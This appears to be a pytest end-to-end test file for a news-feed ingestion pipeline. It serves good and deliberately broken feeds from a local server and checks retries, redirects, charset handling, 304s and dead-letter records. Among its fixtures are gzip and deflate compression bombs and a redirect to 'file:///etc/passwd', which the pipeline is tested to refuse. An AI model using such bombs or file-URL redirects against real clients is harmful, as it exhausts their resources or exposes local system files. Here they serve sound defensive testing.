"""End to end: ``newsbeam ingest`` of feed URLs served by a real HTTP server on 127.0.0.1.

The pipeline runs through the CLI functions (``run_ingest`` / ``main``) against
``feedserver.FeedServer``, and the output is read back with pyarrow and DuckDB.
What the issue demands is checked on every run: the pipeline completes, each
feed's outcome is in ``feed_health`` and the dead letters, and the good feeds'
articles are all written.

One module-scoped run ("misbehaving") covers a server with every kind of bad
feed next to good ones, then runs again over the same output (conditional
requests, 304s, dedup, failure streaks, a feed that grew) and once more with
``--conditional-get off``. Smaller runs cover OPML lists, SSRF refusals, XML
entity attacks, per-host politeness and path safety.
"""

from __future__ import annotations

import gzip
import io
import json
import socket
import threading
import time
import uuid
import zlib
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import cached_property
from pathlib import Path
from typing import Any, Callable, Optional

import duckdb
import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq
import pytest
from feedserver import (
    FeedServer,
    Request,
    Response,
    atom,
    entry,
    gzip_bomb,
    http_date,
    mutable,
    opml,
    raw,
    redirect,
    rss,
    sequence,
    static,
)

from pipeline.cli import main
from pipeline.run import EXIT_NOTHING_READ, run_ingest

# slow tier: this module runs ingests against a local HTTP server and reads their results
pytestmark = pytest.mark.slow

RSS_TYPE = "application/rss+xml; charset=utf-8"
CONTACT = "https://site.example/newsbeam-contact"
ENTRY_LIMIT = 5
RETRIES = 3
#: Every run: the in-process runner, no NER, no heartbeat.
COMMON = ["--runner", "DirectRunner", "--entities", "off", "--progress-seconds", "0"]
#: Short waits so that a misbehaving feed costs seconds, not minutes.
FAST = [
    "--per-host-delay",
    "0",
    "--retry-backoff",
    "0.05",
    "--fetch-deadline",
    "2",
    "--read-timeout",
    "1",
    "--connect-timeout",
    "2",
    "--fetch-retries",
    str(RETRIES),
]


# --------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------


def read_dataset(directory: Path) -> list[dict[str, Any]]:
    if not directory.exists():
        return []
    return ds.dataset(str(directory), format="parquet", partitioning="hive").to_table().to_pylist()


def duck(sql: str, *params: Any) -> list[tuple[Any, ...]]:
    con = duckdb.connect()
    try:
        return con.execute(sql, list(params)).fetchall()
    finally:
        con.close()


def glob(output: Path, table: str) -> str:
    return str(output / table / "**" / "*.parquet")


@dataclass
class Run:
    """One ``newsbeam ingest`` and what it left behind, read back lazily."""

    code: int
    out: str
    err: str
    seconds: float
    output: Path
    run_id: str
    requests: list[Request] = field(default_factory=list)

    @cached_property
    def summary(self) -> dict[str, Any]:
        return json.loads((self.output / "runs" / f"{self.run_id}.json").read_text(encoding="utf-8"))

    @cached_property
    def health_rows(self) -> list[dict[str, Any]]:
        return [r for r in read_dataset(self.output / "feed_health") if r["run_id"] == self.run_id]

    @cached_property
    def health(self) -> dict[str, dict[str, Any]]:
        rows = {r["url"]: r for r in self.health_rows}
        assert len(rows) == len(self.health_rows), "more than one feed_health row for a URL"
        return rows

    @cached_property
    def dead(self) -> list[dict[str, Any]]:
        return [d for d in read_dataset(self.output / "dead_letter") if d["run_id"] == self.run_id]

    @cached_property
    def articles(self) -> list[dict[str, Any]]:
        return [a for a in read_dataset(self.output / "articles") if a["run_id"] == self.run_id]

    def requests_for(self, path: str) -> list[Request]:
        return [r for r in self.requests if r.path.split("?", 1)[0] == path]

    def dead_for(self, source: str) -> list[dict[str, Any]]:
        return [d for d in self.dead if d["source"] == source]

    def articles_from(self, source: str) -> list[dict[str, Any]]:
        return [a for a in self.articles if a["source"] == source]


def ingest(
    inputs: list[str], output: Path, run_id: str, *extra: str, private: bool = True, server: Optional[FeedServer] = None
) -> Run:
    """``run_ingest`` with output captured; the server's request log is reset before and snapshotted after."""
    out, err = io.StringIO(), io.StringIO()
    args = [
        "--output",
        str(output),
        "--run-id",
        run_id,
        *COMMON,
        *(["--allow-private-hosts"] if private else []),
        *extra,
    ]
    if server is not None:
        server.reset_log()
    started = time.monotonic()
    code = run_ingest(inputs, args, out, err)
    seconds = time.monotonic() - started
    requests = server.requests if server is not None else []
    return Run(code, out.getvalue(), err.getvalue(), seconds, output, run_id, requests)


def entries(prefix: str, count: int, start: int = 1) -> list[dict[str, Any]]:
    return [entry(n, prefix) for n in range(start, start + count)]


def links(items: list[dict[str, Any]]) -> set[str]:
    return {e["link"] for e in items}


def files_under(root: Path) -> set[Path]:
    return set(root.rglob("*"))


def all_output_bytes(output: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(output.rglob("*")) if p.is_file())


def assert_reconciles(run: Run) -> None:
    counts = run.summary["counts"]
    assert counts["read"] == counts["written"] + counts["duplicates"] + counts["dead_lettered"], counts
    assert counts["reconciled"] is True
    assert counts["written"] == len(run.articles)
    assert counts["dead_lettered"] == len(run.dead)


# --------------------------------------------------------------------------
# The misbehaving server: one run, a second run, a third without validators
# --------------------------------------------------------------------------

ATOM_MODIFIED = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)

CP1252_ENTRY = {
    "title": "The café “Zoé” reopened after the winter",
    "link": "http://news.example/charset/cp1252",
    "guid": "http://news.example/charset/cp1252",
    "description": "The café “Zoé” on the market square reopened on Monday after a long renovation of its kitchen.",
}
LATIN1_LABEL_ENTRY = {
    "title": "A naïve “résumé” of the théâtre season",
    "link": "http://news.example/charset/utf8-labelled-latin1",
    "guid": "http://news.example/charset/utf8-labelled-latin1",
    "description": "Critics published a naïve “résumé” of the théâtre season on Tuesday, praising the young cast.",
}
HTML_PAGE = (
    b"<!DOCTYPE html><html><head><title>Welcome</title></head>"
    b"<body><h1>Welcome to our site</h1><p>Our feed moved somewhere else.</p></body></html>"
)
OVERSIZED = b'<?xml version="1.0"?><rss version="2.0"><channel><!--' + b"x" * 100_000 + b"--></channel></rss>"

#: Good feeds: key -> the entries served (the first run's content).
GOOD = {
    "rss": entries("good-rss", 3),
    "atom": entries("good-atom", 3),
    "gzip": entries("good-gzip", 3),
    "flaky": entries("flaky", 2),
    "ratelimited": entries("ratelimited", 2),
    "redirected": entries("redirected", 2),
    "cp1252": [CP1252_ENTRY],
    "latin1_label": [LATIN1_LABEL_ENTRY],
    "growing": entries("growing", 2),
    "overfull": entries("overfull", 8),
    "deflate": entries("deflate", 2),
    "gzip_file": entries("gzip-file", 2),
}
#: Feeds with validators, and which one: they get a 304 in the second run (growing changed, so it gets a 200).
VALIDATED = {
    "rss": ("if-none-match", '"rss-v1"'),
    "atom": ("if-modified-since", http_date(ATOM_MODIFIED)),
    "gzip": ("if-none-match", '"gzip-v1"'),
    "flaky": ("if-none-match", '"flaky-v1"'),
    "ratelimited": ("if-none-match", '"rl-v1"'),
    "growing": ("if-none-match", '"grow-v1"'),
}
NOT_MODIFIED = ["rss", "atom", "gzip", "flaky", "ratelimited"]


@dataclass(frozen=True)
class Failure:
    error_class: str
    stage: str
    attempts: int
    #: The status feed_health must show; None when not asserted here.
    status: Optional[int] = None


FAILING = {
    "unavailable": Failure("RetryableStatus", "fetch", RETRIES + 1, 503),
    "gone": Failure("HTTPStatusError", "fetch", 1, 404),
    "loop": Failure("TooManyRedirects", "fetch", 1),
    "slow": Failure("DeadlineExceeded", "fetch", 1),
    "truncated": Failure("TruncatedResponse", "fetch", RETRIES + 1),
    "too_large_declared": Failure("ResponseTooLarge", "fetch", 1),
    "too_large_unframed": Failure("ResponseTooLarge", "fetch", 1),
    "bomb": Failure("ResponseTooLarge", "fetch", 1, 200),
    "html": Failure("FeedError", "parse", 1, 200),
    "empty": Failure("EmptyResponse", "fetch", 1, 200),
    "blank": Failure("EmptyResponse", "fetch", 1, 200),
    "stalled": Failure("FetchTimeout", "fetch", RETRIES + 1),
    "garbage": Failure("ConnectionFailed", "fetch", RETRIES + 1),
    "corrupt_gzip": Failure("TruncatedResponse", "fetch", RETRIES + 1, 200),
    "brotli": Failure("UnsupportedContent", "fetch", 1, 200),
    "deflate_bomb": Failure("ResponseTooLarge", "fetch", 1, 200),
    "ratelimited_long": Failure("RetryableStatus", "fetch", 1, 429),
    "redirect_chain": Failure("TooManyRedirects", "fetch", 1),
    "redirect_to_file": Failure("BlockedURL", "fetch", 1),
}
#: Fails in the first run (404), serves its feed in the second.
RECOVERING = entries("recovering", 2)
#: Failures after a 200 status line arrived, while the body was read.
BODY_FAILURES = ["slow", "truncated", "too_large_declared", "too_large_unframed"]


@dataclass
class Misbehaving:
    urls: dict[str, str]
    paths: dict[str, str]
    bodies: dict[str, bytes]
    redirect_target: str
    first: Run
    second: Run
    unconditional: Run
    errors: list[str]
    grown: list[dict[str, Any]]


def serve_misbehaving(server: FeedServer) -> tuple[dict[str, str], dict[str, bytes], Any]:
    bodies = {
        "rss": rss(GOOD["rss"]),
        "atom": atom(GOOD["atom"]),
        "gzip": rss(GOOD["gzip"]),
        "flaky": rss(GOOD["flaky"]),
        "ratelimited": rss(GOOD["ratelimited"]),
        "redirected": rss(GOOD["redirected"]),
        # Header says UTF-8, the bytes and their XML declaration say windows-1252.
        "cp1252": rss(GOOD["cp1252"], encoding="windows-1252"),
        # Header says ISO-8859-1, the bytes (and declaration) are UTF-8.
        "latin1_label": rss(GOOD["latin1_label"], encoding="utf-8"),
        "growing": rss(GOOD["growing"]),
        "overfull": rss(GOOD["overfull"]),
        "slow": rss(entries("slow", 3)),
        "truncated": rss(entries("truncated", 2)),
        "html": HTML_PAGE,
        "deflate": rss(GOOD["deflate"]),
        "gzip_file": rss(GOOD["gzip_file"]),
        "corrupt_gzip": rss(entries("corrupt-gzip", 2)),
        "brotli": rss(entries("brotli", 2)),
    }
    growing = mutable(static(bodies["growing"], etag='"grow-v1"'))
    routes: dict[str, Any] = {
        "rss": ("/good/rss.xml", static(bodies["rss"], etag='"rss-v1"')),
        "atom": (
            "/good/atom.xml",
            static(bodies["atom"], content_type="application/atom+xml", last_modified=ATOM_MODIFIED),
        ),
        "gzip": ("/good/gzip.xml", static(bodies["gzip"], etag='"gzip-v1"', gzip=True)),
        "flaky": (
            "/flaky.xml",
            sequence(
                Response(500, {"Content-Type": "text/plain"}, b"internal error"),
                static(bodies["flaky"], etag='"flaky-v1"'),
            ),
        ),
        "ratelimited": (
            "/ratelimited.xml",
            sequence(
                Response(429, {"Retry-After": "1", "Content-Type": "text/plain"}, b"slow down"),
                static(bodies["ratelimited"], etag='"rl-v1"'),
            ),
        ),
        "unavailable": ("/unavailable.xml", Response(503, {"Content-Type": "text/plain"}, b"maintenance")),
        "gone": ("/gone.xml", Response(404, {"Content-Type": "text/plain"}, b"gone")),
        "redirected": ("/moved/start.xml", redirect("/moved/middle.xml")),
        "loop": ("/loop/a.xml", redirect("/loop/b.xml")),
        "slow": (
            "/slow.xml",
            Response(200, {"Content-Type": RSS_TYPE}, bodies["slow"], chunk_size=64, chunk_delay=0.25),
        ),
        "truncated": (
            "/truncated.xml",
            Response(
                200, {"Content-Type": RSS_TYPE}, bodies["truncated"], declared_length=len(bodies["truncated"]) + 500
            ),
        ),
        "too_large_declared": ("/too-large-declared.xml", Response(200, {"Content-Type": RSS_TYPE}, OVERSIZED)),
        "too_large_unframed": (
            "/too-large-unframed.xml",
            Response(200, {"Content-Type": RSS_TYPE, "Content-Length": None}, OVERSIZED),
        ),
        "bomb": (
            "/bomb.xml",
            Response(
                200,
                {"Content-Type": RSS_TYPE, "Content-Encoding": "gzip"},
                gzip_bomb(8 << 20, prefix=b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>boom</title>'),
            ),
        ),
        "cp1252": ("/charset/cp1252.xml", static(bodies["cp1252"], content_type="application/rss+xml; charset=utf-8")),
        "latin1_label": (
            "/charset/latin1-label.xml",
            static(bodies["latin1_label"], content_type="application/rss+xml; charset=iso-8859-1"),
        ),
        "html": ("/page.html", static(HTML_PAGE, content_type="text/html; charset=utf-8", etag='"html-v1"')),
        "empty": ("/empty.xml", static(b"")),
        "blank": ("/blank.xml", static(b"  \r\n\t  \n")),
        "overfull": ("/overfull.xml", static(bodies["overfull"])),
        "growing": ("/growing.xml", growing),
        "deflate": (
            "/deflate.xml",
            Response(200, {"Content-Type": RSS_TYPE, "Content-Encoding": "deflate"}, zlib.compress(bodies["deflate"])),
        ),
        # A gzip file served as it is, without Content-Encoding: recognised by its magic number.
        "gzip_file": (
            "/feed.xml.gz",
            Response(200, {"Content-Type": "application/gzip"}, gzip.compress(bodies["gzip_file"], mtime=0)),
        ),
        # Headers, then silence for longer than --read-timeout.
        "stalled": ("/stalled.xml", Response(200, {"Content-Type": RSS_TYPE}, bodies["rss"], delay=1.5)),
        "garbage": ("/garbage.xml", raw(lambda _request, wfile: wfile.write(b"SPDY/9 banana\r\n\r\n"))),
        "corrupt_gzip": (
            "/corrupt-gzip.xml",
            Response(
                200,
                {"Content-Type": RSS_TYPE, "Content-Encoding": "gzip"},
                gzip.compress(bodies["corrupt_gzip"], mtime=0)[:-40],
            ),
        ),
        "brotli": (
            "/brotli.xml",
            Response(200, {"Content-Type": RSS_TYPE, "Content-Encoding": "br"}, bodies["brotli"]),
        ),
        "deflate_bomb": (
            "/deflate-bomb.xml",
            Response(
                200, {"Content-Type": RSS_TYPE, "Content-Encoding": "deflate"}, zlib.compress(b"\0" * (8 << 20), 9)
            ),
        ),
        "ratelimited_long": (
            "/ratelimited-long.xml",
            Response(429, {"Retry-After": "3600", "Content-Type": "text/plain"}, b"come back tomorrow"),
        ),
        "redirect_chain": ("/chain/0.xml", redirect("/chain/1.xml")),
        "redirect_to_file": ("/to-file.xml", redirect("file:///etc/passwd", status=302)),
        "recovering": (
            "/recovering.xml",
            sequence(Response(404, {"Content-Type": "text/plain"}, b"not yet"), static(rss(RECOVERING))),
        ),
    }
    paths = {}
    for key, (path, responder) in routes.items():
        server.route(path, responder)
        paths[key] = path
    server.route("/moved/middle.xml", redirect(server.url("/moved/target.xml"), status=302))
    server.route("/moved/target.xml", static(bodies["redirected"]))
    server.route("/loop/b.xml", redirect(server.url("/loop/a.xml"), status=307))
    for hop in range(1, 9):
        server.route(f"/chain/{hop}.xml", redirect(f"/chain/{hop + 1}.xml", status=308))
    return paths, bodies, growing


@pytest.fixture(scope="module")
def misbehaving(tmp_path_factory: pytest.TempPathFactory) -> Misbehaving:
    output = tmp_path_factory.mktemp("misbehaving") / "out"
    options = [
        *FAST,
        "--per-host-concurrency",
        "8",
        "--contact-url",
        CONTACT,
        "--max-response-mb",
        "0.05",
        "--max-file-mb",
        "1",
        "--max-entries-per-feed",
        str(ENTRY_LIMIT),
    ]
    with FeedServer() as server:
        paths, bodies, growing = serve_misbehaving(server)
        urls = {key: server.url(path) for key, path in paths.items()}
        inputs = [*urls.values(), urls["rss"]]  # a URL given twice is fetched once
        first = ingest(inputs, output, "first", *options, server=server)
        grown = entries("growing", 3)
        growing.set(static(rss(grown), etag='"grow-v2"'))
        second = ingest(inputs, output, "second", *options, server=server)
        unconditional = ingest(
            [urls["rss"], urls["atom"]], output, "unconditional", *options, "--conditional-get", "off", server=server
        )
        return Misbehaving(
            urls, paths, bodies, server.url("/moved/target.xml"), first, second, unconditional, server.errors, grown
        )


@pytest.fixture(scope="module")
def first(misbehaving: Misbehaving) -> Run:
    return misbehaving.first


@pytest.fixture(scope="module")
def second(misbehaving: Misbehaving) -> Run:
    return misbehaving.second


def test_every_run_completes_with_exit_zero(misbehaving: Misbehaving) -> None:
    for run in (misbehaving.first, misbehaving.second, misbehaving.unconditional):
        assert run.code == 0, run.err
        assert run.summary["state"] == "DONE"
    assert misbehaving.errors == []  # no responder of the test server crashed


def test_first_run_takes_seconds_not_minutes(first: Run) -> None:
    # The slowest feed is cut off by the 2 s deadline; a 429 waits 1 s; everything else is quick.
    assert first.seconds < 30


def test_first_run_counts_reconcile(first: Run, misbehaving: Misbehaving) -> None:
    assert_reconciles(first)
    counts = first.summary["counts"]
    expected_written = sum(len(items) for key, items in GOOD.items() if key != "overfull") + ENTRY_LIMIT
    assert counts["written"] == expected_written
    assert counts["duplicates"] == 0
    fetch_failures = sum(1 for f in FAILING.values() if f.stage == "fetch") + 1  # + recovering's 404
    assert first.summary["dead_lettered_by_stage"] == {"fetch": fetch_failures, "parse": 2}  # html + overflow
    duck_written = duck(
        f"SELECT count(*) FROM read_parquet('{glob(first.output, 'articles')}', hive_partitioning = true)"
        " WHERE run_id = ?",
        first.run_id,
    )[0][0]
    assert duck_written == counts["written"]
    duck_dead = duck(
        f"SELECT count(*) FROM read_parquet('{glob(first.output, 'dead_letter')}', hive_partitioning = true)"
        " WHERE run_id = ?",
        first.run_id,
    )[0][0]
    assert duck_dead == counts["dead_lettered"]


def test_one_health_row_per_url(first: Run, misbehaving: Misbehaving) -> None:
    assert sorted(first.health) == sorted(misbehaving.urls.values())
    assert len(first.health_rows) == len(misbehaving.urls)
    assert {row["kind"] for row in first.health_rows} == {"feed"}
    assert all(row["parent"] is None for row in first.health_rows)
    # DuckDB sees the same rows.
    duck_rows = duck(
        f"SELECT url, error_class FROM read_parquet('{glob(first.output, 'feed_health')}', hive_partitioning = true)"
        " WHERE run_id = ?",
        first.run_id,
    )
    assert sorted(duck_rows, key=repr) == sorted(((u, r["error_class"]) for u, r in first.health.items()), key=repr)


@pytest.mark.parametrize("key", sorted(GOOD))
def test_good_feed_health(first: Run, misbehaving: Misbehaving, key: str) -> None:
    row = first.health[misbehaving.urls[key]]
    assert row["error_class"] is None and row["error_message"] is None
    assert row["status"] == 200
    assert row["not_modified"] is False
    assert row["consecutive_failures"] == 0
    assert row["attempts"] == (2 if key in ("flaky", "ratelimited") else 1)
    assert row["redirects"] == (2 if key == "redirected" else 0)
    assert row["entries_seen"] == len(GOOD[key])
    assert row["duplicates"] == 0
    if key == "overfull":
        # The overflow is one dead letter (not one per extra entry): these entries are not all accounted one by one.
        assert (row["new_articles"], row["dead_lettered"]) == (ENTRY_LIMIT, 1)
    else:
        assert row["new_articles"] == len(GOOD[key])
        assert row["dead_lettered"] == 0
        assert row["new_articles"] + row["duplicates"] + row["dead_lettered"] == row["entries_seen"]
    assert row["bytes"] > 0


@pytest.mark.parametrize("key", sorted(FAILING))
def test_failing_feed_health(first: Run, misbehaving: Misbehaving, key: str) -> None:
    expected = FAILING[key]
    row = first.health[misbehaving.urls[key]]
    assert row["error_class"] == expected.error_class, row
    assert row["error_message"]
    assert row["attempts"] == expected.attempts
    if expected.status is not None:
        assert row["status"] == expected.status
    assert row["entries_seen"] == 0
    assert row["new_articles"] == 0
    assert row["duplicates"] == 0
    assert row["dead_lettered"] == (1 if expected.stage == "parse" else 0)
    assert row["not_modified"] is False
    assert row["consecutive_failures"] == 1
    assert first.articles_from(misbehaving.urls[key]) == []


def test_status_is_recorded_when_the_body_fails(first: Run, misbehaving: Misbehaving) -> None:
    statuses = {key: first.health[misbehaving.urls[key]]["status"] for key in BODY_FAILURES}
    assert statuses == dict.fromkeys(BODY_FAILURES, 200)


def test_failure_messages_say_what_happened(first: Run, misbehaving: Misbehaving) -> None:
    message = {key: first.health[url]["error_message"] for key, url in misbehaving.urls.items()}
    assert "503" in message["unavailable"]
    assert "404" in message["gone"]
    assert "loop" in message["loop"]
    assert "deadline" in message["slow"]
    assert "HTML" in message["html"]
    assert "text/html" in message["html"]
    assert "Content-Length" in message["too_large_declared"]
    assert "compression bomb" in message["bomb"] or "decompressed" in message["bomb"]


def test_deadline_cuts_off_a_trickling_body(first: Run, misbehaving: Misbehaving) -> None:
    row = first.health[misbehaving.urls["slow"]]
    assert 1900 <= row["elapsed_ms"] < 3500, row["elapsed_ms"]  # --fetch-deadline 2; the whole body would take ~12 s


def test_retry_after_500_then_success(first: Run, misbehaving: Misbehaving) -> None:
    statuses_served = [r.path for r in first.requests_for(misbehaving.paths["flaky"])]
    assert len(statuses_served) == 2
    assert links(GOOD["flaky"]) == {a["url"] for a in first.articles_from(misbehaving.urls["flaky"])}


def test_retry_after_header_is_honoured(first: Run, misbehaving: Misbehaving) -> None:
    requests = first.requests_for(misbehaving.paths["ratelimited"])
    assert len(requests) == 2
    assert requests[1].time - requests[0].time >= 0.8  # Retry-After: 1, less server-side reading jitter
    assert links(GOOD["ratelimited"]) == {a["url"] for a in first.articles_from(misbehaving.urls["ratelimited"])}


def test_retryable_failures_stop_after_the_retries(first: Run, misbehaving: Misbehaving) -> None:
    assert len(first.requests_for(misbehaving.paths["unavailable"])) == RETRIES + 1
    assert len(first.requests_for(misbehaving.paths["truncated"])) == RETRIES + 1
    assert len(first.requests_for(misbehaving.paths["stalled"])) == RETRIES + 1
    assert len(first.requests_for(misbehaving.paths["garbage"])) == RETRIES + 1
    assert len(first.requests_for(misbehaving.paths["corrupt_gzip"])) == RETRIES + 1


def test_retry_after_over_the_limit_ends_attempts_at_once(first: Run, misbehaving: Misbehaving) -> None:
    assert len(first.requests_for(misbehaving.paths["ratelimited_long"])) == 1
    assert "max-retry-wait" in first.health[misbehaving.urls["ratelimited_long"]]["error_message"]


def test_redirect_limit(first: Run, misbehaving: Misbehaving) -> None:
    message = first.health[misbehaving.urls["redirect_chain"]]["error_message"]
    assert "more than 5 redirects" in message
    assert [len(first.requests_for(f"/chain/{hop}.xml")) for hop in range(9)] == [1] * 6 + [0] * 3


def test_redirect_to_a_file_url_is_refused(first: Run, misbehaving: Misbehaving) -> None:
    row = first.health[misbehaving.urls["redirect_to_file"]]
    assert "file" in row["error_message"]
    assert len(first.requests_for(misbehaving.paths["redirect_to_file"])) == 1
    assert b"root:x:0:0" not in all_output_bytes(first.output)


def test_feed_that_recovers(first: Run, second: Run, misbehaving: Misbehaving) -> None:
    url = misbehaving.urls["recovering"]
    before, after = first.health[url], second.health[url]
    assert (before["status"], before["error_class"], before["consecutive_failures"]) == (404, "HTTPStatusError", 1)
    assert (after["status"], after["error_class"], after["consecutive_failures"]) == (200, None, 0)
    assert (after["entries_seen"], after["new_articles"], after["duplicates"]) == (2, 2, 0)
    assert {a["url"] for a in second.articles_from(url)} == links(RECOVERING)
    assert url not in {f["url"] for f in second.summary["failing_feeds"]}


@pytest.mark.parametrize(
    "key",
    [
        "gone",
        "slow",
        "too_large_declared",
        "too_large_unframed",
        "bomb",
        "deflate_bomb",
        "brotli",
        "html",
        "empty",
        "blank",
        "redirect_to_file",
    ],
)
def test_final_failures_are_never_retried(first: Run, misbehaving: Misbehaving, key: str) -> None:
    assert len(first.requests_for(misbehaving.paths[key])) == 1


def test_redirect_loop_is_cut_off(first: Run, misbehaving: Misbehaving) -> None:
    assert len(first.requests_for("/loop/a.xml")) == 1
    assert len(first.requests_for("/loop/b.xml")) == 1


def test_redirect_chain_is_followed(first: Run, misbehaving: Misbehaving) -> None:
    row = first.health[misbehaving.urls["redirected"]]
    assert row["final_url"] == misbehaving.redirect_target
    assert row["redirects"] == 2
    written = first.articles_from(misbehaving.urls["redirected"])
    assert {a["url"] for a in written} == links(GOOD["redirected"])
    assert [len(first.requests_for(p)) for p in ("/moved/start.xml", "/moved/middle.xml", "/moved/target.xml")] == [
        1,
        1,
        1,
    ]


def test_gzip_feed_is_decoded(first: Run, misbehaving: Misbehaving) -> None:
    row = first.health[misbehaving.urls["gzip"]]
    compressed = gzip.compress(misbehaving.bodies["gzip"], mtime=0)
    assert row["bytes"] == len(compressed) < len(misbehaving.bodies["gzip"])  # on the wire: compressed
    assert {a["url"] for a in first.articles_from(misbehaving.urls["gzip"])} == links(GOOD["gzip"])


@pytest.mark.parametrize("key", ["cp1252", "latin1_label"])
def test_wrong_declared_charset_gives_correct_text(first: Run, misbehaving: Misbehaving, key: str) -> None:
    (article,) = first.articles_from(misbehaving.urls[key])
    expected = GOOD[key][0]
    assert article["title"] == expected["title"]
    assert expected["description"] in article["text"]
    for field_ in ("title", "text"):
        for mojibake in ("Ã", "â€", "\ufffd", "Â"):
            assert mojibake not in article[field_], (field_, article[field_])


def test_entry_limit_writes_the_first_entries_and_one_dead_letter(first: Run, misbehaving: Misbehaving) -> None:
    url = misbehaving.urls["overfull"]
    assert {a["url"] for a in first.articles_from(url)} == links(GOOD["overfull"][:ENTRY_LIMIT])
    (dead,) = first.dead_for(url)
    assert dead["stage"] == "parse"
    assert dead["error_type"] == "TooManyEntries"
    assert dead["raw_bytes"] == misbehaving.bodies["overfull"]  # the whole document: nothing lost
    assert first.summary["feeds"]["over_entry_limit"] == 1


@pytest.mark.parametrize("key", sorted(GOOD))
def test_good_feed_entries_are_all_written(first: Run, misbehaving: Misbehaving, key: str) -> None:
    served = GOOD[key][:ENTRY_LIMIT]
    url = misbehaving.urls[key]
    written = first.articles_from(url)
    assert sorted(a["url"] for a in written) == sorted(e["link"] for e in served)
    assert sorted(a["guid"] for a in written) == sorted(e["guid"] for e in served)
    duck_urls = duck(
        f"SELECT url FROM read_parquet('{glob(first.output, 'articles')}', hive_partitioning = true)"
        " WHERE run_id = ? AND source = ?",
        first.run_id,
        url,
    )
    assert sorted(u for (u,) in duck_urls) == sorted(e["link"] for e in served)


@pytest.mark.parametrize("key", sorted(FAILING))
def test_failing_feed_has_a_dead_letter_with_its_payload(first: Run, misbehaving: Misbehaving, key: str) -> None:
    expected = FAILING[key]
    url = misbehaving.urls[key]
    (dead,) = first.dead_for(url)
    assert dead["stage"] == expected.stage
    assert dead["error_type"] == expected.error_class
    assert dead["message"] == first.health[url]["error_message"]
    assert dead["raw_text"] == url or dead["raw_bytes"], dead
    if key == "html":
        assert dead["raw_bytes"] == HTML_PAGE


def test_dead_letters_come_only_from_failing_feeds(first: Run, misbehaving: Misbehaving) -> None:
    failing = {misbehaving.urls[key] for key in [*FAILING, "recovering"]}
    assert {d["source"] for d in first.dead} == failing | {misbehaving.urls["overfull"]}


def test_cli_output_lists_failing_feeds(first: Run, misbehaving: Misbehaving) -> None:
    assert "feeds fetched" in first.out
    failing_lines = [line for line in first.out.splitlines() if line.startswith("    ")]
    assert f"feeds failing  {len(FAILING) + 1:>8}" in first.out
    classes = {key: f.error_class for key, f in FAILING.items()} | {"recovering": "HTTPStatusError"}
    for key, error_class in classes.items():
        url = misbehaving.urls[key]
        assert any(line.strip().startswith(f"{url}: {error_class}") for line in failing_lines), (key, first.out)
    for key in GOOD:
        assert not any(misbehaving.urls[key] in line for line in failing_lines)


def test_summary_failing_feeds_match_health(first: Run) -> None:
    from_health = sorted(
        (
            {
                "url": row["url"],
                "status": row["status"],
                "error_class": row["error_class"],
                "error_message": row["error_message"],
                "consecutive_failures": row["consecutive_failures"],
            }
            for row in first.health_rows
            if row["error_class"]
        ),
        key=lambda f: f["url"],
    )
    assert sorted(first.summary["failing_feeds"], key=lambda f: f["url"]) == from_health
    assert len(from_health) == len(FAILING) + 1


def test_summary_feed_counters_match_health(first: Run) -> None:
    feeds = first.summary["feeds"]
    rows = first.health_rows
    fetch_failed = [r for r in rows if r["error_class"] and r["error_class"] != "FeedError"]
    assert feeds["failed"] == len(fetch_failed)
    assert feeds["fetched"] == len(rows) - len(fetch_failed)
    assert feeds["failing"] == sum(1 for r in rows if r["error_class"])
    assert feeds["not_modified"] == 0
    assert feeds["retries"] == sum(r["attempts"] - 1 for r in rows)
    assert feeds["redirects"] == sum(r["redirects"] for r in rows)
    assert feeds["bytes"] == sum(r["bytes"] for r in rows)


def test_user_agent_and_accept_encoding(misbehaving: Misbehaving) -> None:
    sent = misbehaving.first.requests + misbehaving.second.requests
    assert sent
    for request in sent:
        agent = request.headers.get("user-agent", "")
        assert agent.startswith("newsbeam/"), agent
        assert CONTACT in agent
        assert "gzip" in request.headers.get("accept-encoding", "")


# The second run over the same output ------------------------------------------------------------------------------


@pytest.mark.parametrize("key", sorted(VALIDATED))
def test_second_run_sends_conditional_headers(second: Run, misbehaving: Misbehaving, key: str) -> None:
    header, value = VALIDATED[key]
    (request,) = second.requests_for(misbehaving.paths[key])
    assert request.headers.get(header) == value, request.headers


def test_second_run_sends_no_validators_it_never_got(second: Run, misbehaving: Misbehaving) -> None:
    for key in misbehaving.paths:
        if key in VALIDATED:
            continue
        for request in second.requests_for(misbehaving.paths[key]):
            assert "if-none-match" not in request.headers, key
            assert "if-modified-since" not in request.headers, key


def test_content_failure_forgets_its_validators(first: Run, second: Run, misbehaving: Misbehaving) -> None:
    # The HTML page came with an ETag, but its content failed: the next run fetches it in full and fails again.
    (request,) = second.requests_for(misbehaving.paths["html"])
    assert "if-none-match" not in request.headers
    row = second.health[misbehaving.urls["html"]]
    assert (row["status"], row["error_class"], row["consecutive_failures"]) == (200, "FeedError", 2)


@pytest.mark.parametrize("key", NOT_MODIFIED)
def test_second_run_counts_304_as_not_modified(second: Run, misbehaving: Misbehaving, key: str) -> None:
    row = second.health[misbehaving.urls[key]]
    assert row["status"] == 304
    assert row["not_modified"] is True
    assert row["error_class"] is None
    assert row["consecutive_failures"] == 0
    assert (row["entries_seen"], row["new_articles"], row["duplicates"], row["dead_lettered"]) == (0, 0, 0, 0)


def test_second_run_summary(second: Run, misbehaving: Misbehaving) -> None:
    assert_reconciles(second)
    feeds = second.summary["feeds"]
    assert feeds["not_modified"] == len(NOT_MODIFIED)
    assert f"not_modified={len(NOT_MODIFIED)}" in second.out
    # Only the entry the growing feed gained, and the recovered feed's entries.
    assert second.summary["counts"]["written"] == 1 + len(RECOVERING)
    # Feeds without validators were fetched again in full: their entries are duplicates of the first run.
    refetched = ["redirected", "cp1252", "latin1_label", "overfull", "deflate", "gzip_file"]
    assert second.summary["counts"]["duplicates"] == sum(len(GOOD[k][:ENTRY_LIMIT]) for k in refetched) + 2


def test_no_duplicate_rows_across_runs(second: Run) -> None:
    pattern = glob(second.output, "articles")
    total, distinct_ids, distinct_urls = duck(
        f"SELECT count(*), count(DISTINCT article_id), count(DISTINCT url)"
        f" FROM read_parquet('{pattern}', hive_partitioning = true)"
    )[0]
    assert total == distinct_ids == distinct_urls
    expected = sum(len(items[:ENTRY_LIMIT]) for items in GOOD.values()) + 1 + len(RECOVERING)
    assert total == expected


